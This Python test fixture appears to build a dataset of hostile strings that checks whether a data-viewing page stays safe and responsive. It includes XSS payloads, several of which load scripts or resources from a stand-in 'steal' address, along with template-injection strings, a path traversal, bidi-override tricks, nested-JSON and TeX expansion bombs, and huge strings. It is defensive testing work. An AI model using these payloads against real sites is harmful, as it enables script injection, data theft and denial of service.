"""A hundred rows that no page may run, be broken by, or be slow for: in every column that holds a text.

`PAYLOADS` are the texts; `build` writes them as a dataset of the schema `filtered`, one a row in all its columns.
"""

import json
from pathlib import Path
from typing import Any

import pyarrow as pa

from r1data.data.commits import Command
from r1data.data.schema import load_schema
from r1data.data.text import storable
from r1data.data.writer import Writer
from r1data.filters.limits import LIMITS
from r1data.filters.registry import recorded_limits

CANARY = "window.__canary"
RUN = f"{CANARY}=(window.__canary||0)+1"
AWAY = "http://192.0.2.1/steal"
"""An address of the block for documentation: nothing answers there."""

_MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src={AWAY}.js></ScRiPt>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={AWAY}.png>",
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math href='javascript:{RUN}'><mi>x</mi></math>",
    f"<a href='javascript:{RUN}'>here</a>",
    f"<a href={AWAY}>here</a>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data={AWAY}></object><embed src={AWAY}>",
    f"<body onload={RUN}><input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/><link rel=stylesheet href={AWAY}.css>",
    f"<style>*{{display:none}}@import url({AWAY});</style>",
    f"<form action={AWAY}><button autofocus>go</button></form>",
    "<!--", "]]>", "<![CDATA[", "</main></body></html>", "</pre></td></tr></table>", "</details></div></section>",
    "<plaintext>", "<xmp>", "<noscript><p title='</noscript><img src=x onerror=1>'>", "<template><b>x</b>",
    f"\" onmouseover=\"{RUN}\" x=\"", f"' onfocus='{RUN}' autofocus '", f"`onclick={RUN}`",
    f"<div hx-get={AWAY} hx-trigger=load hx-on:load='{RUN}'>x</div>",
    f"<div data-hx-get={AWAY} data-hx-trigger=load>x</div>",
    f"<div hx-ext=sse sse-connect={AWAY}>x</div>",
    "<mark class=maths>$x$</mark><span class=\"maths\">\\href{javascript:1}{x}</span>",
    "&lt;script&gt; &amp;lt; &#x3c;script&#x3e; &nbsp;",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}} {{ self.__init__.__globals__ }}", "{% for x in range(9) %}x{% endfor %}", "${7*7} #{7*7} <%= 7*7 %>",
    "{# comment #} {% raw %}", "%s %d %(name)s {0} {name}",
]  # fmt: skip
_JSON = [
    f'{{"a": "</script><script>{RUN}</script>"}}', '"}]}</script>', "\u2028\u2029</script>", '{"__proto__": {"x": 1}}',
    "[" * 5_000, '{"a":' * 3_000, "NaN", '{"a": 1e999999}', "\\u003cscript\\u003e", "[" + "1," * 20_000 + "1]",
]  # fmt: skip
_MARKDOWN = [
    f"[here](javascript:{RUN})", f"![x]({AWAY}.png)", f"<{AWAY}>", "# head\n> quote\n- list\n***bold***",
    "```html\n<script>" + RUN + "</script>\n```", "| a | b |\n|---|---|\n" + "| x | y |\n" * 500,
]  # fmt: skip
_CHARACTERS = [
    "a\u202egnp.exe\u202c b", "\u2066\u2067\u2068\u2069" * 50, "\u200b" * 20_000, "\u200d\ufe0f" * 500,
    "a\0b\0\0c", "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x9b1m", "\r\rback\rover\b\b\b", "\ufeff\ufffe\uffff",
    "Z" + "".join(chr(0x300 + n % 0x70) for n in range(3_000)) + "algo", "e\u0301" * 2_000,
    "שלום עולם العربية مرحبا فارسی می\u200cخواهم", "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈 " * 300, 
    "क्\u200dष हिन्दी ไทย 中文",
    "\U000e0041\U000e0042 tags \U000e007f", "\ud800 lone \udfff", "\ue000\uf8ff\U000f0000", "𝒳𝔜𝟘 ﷽ ꧅ 𒐫" * 50,
]  # fmt: skip
_LONG = [
    "x" * 1_000_000, "wide \t" * 100_000, "\n" * 200_000, "\n\n".join(["paragraph"] * 30_000), "a\n\n" * 50_000,
    "$" * 300_000, "\\(" * 150_000, "`" * 300_000, "\u202e" * 200_000, "<" * 300_000, "&" * 300_000,
    "中" * 300_000, "word " * 60_000, "0, " * 50_000, "```\n" * 20_000, "Donc la somme est égale à douze. " * 3_000,
]  # fmt: skip
_MATHS = [
    r"$\def\a{\a\a}\a$", r"$$\def\a#1{\a{#1#1}}\a{x}$$", r"\[\edef\a{xx}" + r"\edef\a{\a\a}" * 60 + r"\a\]",
    "$$" + "{" * 900 + "x" + "}" * 900 + "$$", "$$" + r"\sqrt{" * 250 + "x" + "}" * 250 + "$$",
    "$$" + r"\frac{x}{" * 180 + "y" + "}" * 180 + "$$", "$" + "x^{" * 90 + "y" + "}" * 90 + "$",
    rf"$\href{{javascript:{RUN}}}{{x}}$ \(\url{{{AWAY}}}\)", rf"$\includegraphics[width=9em]{{{AWAY}.png}}$",
    r"$\htmlClass{skip}{x} \htmlStyle{position:fixed}{x} \htmlData{a=b}{x} \htmlId{main}{x}$",
    r"$$\rule{9999em}{9999em}\hspace{9999em}\raisebox{-9999em}{x}$$", r"$\color{red}\text{<script>1</script>}$",
    r"$\unknown{x$ \( \frac{1} \) \[ \begin{matrix} \]", "$x$ " * 20_000, r"$$\sum_{i=0}^n x_i$$" + "\n" * 2
    + r"\[\int_0^1 f\]" * 3_000, "$" + "x" * 390 + "$ " * 400, "$" + "x+" * 50_000 + "$", "$$" + "x+" * 50_000 + "$$",
    r"$\begin{array}{" + "c" * 300 + "}" + "&" * 299 + r"\end{array}$", r"\(\kern-999em x\mkern-9999mu y\)",
]  # fmt: skip
_NAMES = [
    "../../etc/passwd",
    "a/b/7",
    "javascript:alert(1)",
    "?token=x&id=y#z",
    "CON",
    "é\u202e",
    "a b+c%20d%00",
]

PAYLOADS = [*_MARKUP, *_TEMPLATES, *_JSON, *_MARKDOWN, *_CHARACTERS, *_LONG, *_MATHS, *_NAMES]


def rows() -> list[dict[str, Any]]:
    """One row a payload."""
    return [_row(number, text) for number, text in enumerate(PAYLOADS)]


def _row(number: int, payload: str) -> dict[str, Any]:
    text = payload.encode("utf-8", "replace").decode()
    short = text[:2_000]
    # what is not a name may be an id too; each row keeps one of its own
    prompt_id = f"{number:03d}{short[:60]}"
    return {
        "prompt_id": prompt_id,
        "prompt": text,
        "system": short,
        "domain": short[:200],
        "language": "en",
        "verifier": short[:200],
        "truth": short,
        "source": short[:200],
        "license": short[:200],
        "meta": short,
        "sample_index": 0,
        "response": f"<think>{text}</think>{text}",
        "reasoning": text,
        "answer": text,
        "finish_reason": "stop",
        "prompt_tokens": 1,
        "response_tokens": 1,
        "model": short[:200],
        "engine": short[:200],
        "sampling": json.dumps({"x": short}),
        "verdict": "incorrect",
        "score": 0.0,
        "extracted": short,
        "verdict_cause": None,
        "verdict_reason": short,
        "verifier_version": short[:200],
        "language_consistency": 0.5,
        "drop_reasons": ["incorrect", short[:100]],
        f"own {number} {storable(short[:40])}": short,
        "own_list": [short, short],
    }


def table() -> pa.Table:
    """The rows with all their columns."""
    each = rows()
    names = list(dict.fromkeys(name for row in each for name in row))
    columns = {name: [row.get(name) for row in each] for name in names}
    types = {column.name: column.type for column in load_schema("filtered").columns}
    return pa.table({name: pa.array(values, types.get(name)) for name, values in columns.items()})


def build(folder: Path) -> Path:
    """The rows as a dataset in `folder`, as `r1 filter` writes one, and the folder."""
    parameters = {"limits": recorded_limits(LIMITS), "skip": [], "filters": {}}
    command = Command("filter", parameters)
    with Writer.open(folder, schema="filtered", command=command, announce=False) as writer:
        writer.publish("shard", table())
        writer.finish({})
    return folder
